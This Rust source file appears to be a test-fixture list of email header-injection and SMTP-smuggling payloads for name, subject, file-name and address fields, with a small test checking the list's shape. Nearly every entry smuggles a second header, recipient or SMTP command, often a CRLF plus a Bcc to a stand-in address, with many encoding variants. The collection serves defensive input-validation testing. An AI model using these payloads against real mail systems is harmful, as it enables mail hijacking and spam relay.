//! What people type who want a mail to go elsewhere or to say something else: our own list. Whoever reads one of these as
//! a line of a head, as a second address or as a word of SMTP would write to `evil@evil.test`.

/// For names, lines, accounts and names of files. Each fits into a name, and none is blank.
pub const HEADERS: &[&str] = &[
    // Line ends of every kind before a header.
    "x\r\nBcc: evil@evil.test",
    "x\nBcc: evil@evil.test",
    "x\rBcc: evil@evil.test",
    "x\n\rBcc: evil@evil.test",
    "x\r\n\r\nBcc: evil@evil.test",
    "\r\nBcc: evil@evil.test",
    "Bcc: evil@evil.test",
    "x\u{85}Bcc: evil@evil.test",
    "x\u{2028}Bcc: evil@evil.test",
    "x\u{2029}Bcc: evil@evil.test",
    "x\u{b}Bcc: evil@evil.test",
    "x\u{c}Bcc: evil@evil.test",
    "x\u{1c}Bcc: evil@evil.test",
    "x\u{1e}Bcc: evil@evil.test",
    "x\0Bcc: evil@evil.test",
    "x\u{1b}[1ABcc: evil@evil.test",
    "x\r\n\u{200b}Bcc: evil@evil.test",
    "x\u{202e}\r\ntset.live@live :ccB",
    // Signs whose last octet is a line end.
    "x\u{560d}\u{560a}Bcc: evil@evil.test",
    "x\u{10d}\u{10a}Bcc: evil@evil.test",
    // Line ends for whoever decodes once more.
    "x%0d%0aBcc: evil@evil.test",
    "x%0ABcc:evil@evil.test",
    "x\\r\\nBcc: evil@evil.test",
    "x&#13;&#10;Bcc: evil@evil.test",
    "x=0D=0ABcc: evil@evil.test",
    "=?utf-8?Q?=0D=0ABcc:_evil@evil.test?=",
    "=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC50ZXN0?=",
    "=?utf-8?Q?x?=\r\n =?utf-8?Q?=0ABcc:_evil@evil.test?=",
    "=?us-ascii?q?x=00Bcc:_evil@evil.test?=",
    "=?utf-7?q?+AA0ACg-Bcc:_evil@evil.test?=",
    // Headers, folded and odd ones too.
    "x\r\n Bcc: evil@evil.test",
    "x\r\n\tBcc: evil@evil.test",
    "x\r\nBcc : evil@evil.test",
    "x\r\nbCC:evil@evil.test",
    "x\r\nCc: evil@evil.test",
    "x\r\nTo: evil@evil.test",
    "x\r\nFrom: evil@evil.test",
    "x\r\nSubject: y",
    "x\r\nReply-To: evil@evil.test",
    "x\r\nSender: evil@evil.test",
    "x\r\nReturn-Path: <evil@evil.test>",
    "x\r\nResent-To: evil@evil.test",
    "x\r\nMessage-ID: <evil@evil.test>",
    "x\r\nDate: Thu, 01 Jan 1970 00:00:00 +0000",
    // Parts and bodies.
    "x\r\nContent-Type: text/html\r\n\r\n<b>y</b>",
    "x\r\nContent-Transfer-Encoding: base64",
    "x\r\nMIME-Version: 9.9",
    "x;\r\n boundary=\"y\"",
    "x\r\n--boundary--\r\nBcc: evil@evil.test",
    "x\r\n--boundary\r\nContent-Disposition: attachment; filename=\"y\"",
    // SMTP, and boxes of mails.
    "x\r\n.\r\nMAIL FROM:<evil@evil.test>",
    "x\n.\nRCPT TO:<evil@evil.test>",
    "x\r\n.\r\nDATA\r\nBcc: evil@evil.test",
    ".\r\nQUIT",
    "..\r\n.",
    "From evil@evil.test Thu Jan  1 00:00:00 1970",
    // Addresses where a name belongs.
    "\"x\" <evil@evil.test>, y",
    "x, evil@evil.test; group: evil@evil.test;",
    "<evil@evil.test>",
    "(x) evil@evil.test (y)",
    "@evil.test:x@x.test",
];

/// For the field of an address.
pub const ADDRESSES: &[&str] = &[
    "usual@b.test",
    "a+b.c_d'e@b.test",
    "a@b.test\r\nBcc: evil@evil.test",
    "a@b.test\r\n Bcc: evil@evil.test",
    "a\r\nBcc:evil@evil.test",
    "\r\nBcc:evil@evil.test",
    "a@b.test\nevil@evil.test",
    "a@b.test\u{2029}evil@evil.test",
    "a@b.test\u{b}evil@evil.test",
    "a@b.test\u{0}evil@evil.test",
    "a@b.test\tevil@evil.test",
    "a@b.test\u{a0}evil@evil.test",
    "a@b.test\u{ff0c}evil@evil.test",
    "a\u{ff20}evil.test",
    "a@b.test%0aBcc:evil@evil.test",
    "a@b.test?cc=evil@evil.test",
    "mailto:a@b.test",
    "group:evil@evil.test;",
    "x <evil@evil.test>",
    "a@b.test> NOTIFY=SUCCESS",
    "a@b.test SIZE=1",
    "@evil.test:a@b.test",
    "evil%evil.test@b.test",
    "evil.test!evil@b.test",
    "\"evil@evil.test\"@b.test",
    "\"a b\"@b.test",
    "a(evil@evil.test)@b.test",
    "a@b.test(evil@evil.test)",
    "a@(x)b.test",
    "a\\@evil.test@b.test",
    "a@b..test",
    ".a@b.test",
    "a.@b.test",
    "a@-b.test",
    "a@b.test/evil",
    "a@b.test#evil.test",
    "a\u{ad}@b.test",
    "a@b\u{3002}test",
    "a@b.test\u{200b}",
    "=?utf-8?q?evil=40evil.test=2C?=@b.test",
    "postmaster",
    "a@1.2.3.4",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_fits_into_a_name_and_stands_once() {
        assert!(HEADERS.len() >= 40 && ADDRESSES.len() >= 20);
        for list in [HEADERS, ADDRESSES] {
            for (i, text) in list.iter().enumerate() {
                assert!(text.chars().count() <= 200 && !text.trim().is_empty(), "{text:?}");
                assert!(!list[..i].contains(text), "{text:?} stands twice");
            }
        }
    }
}
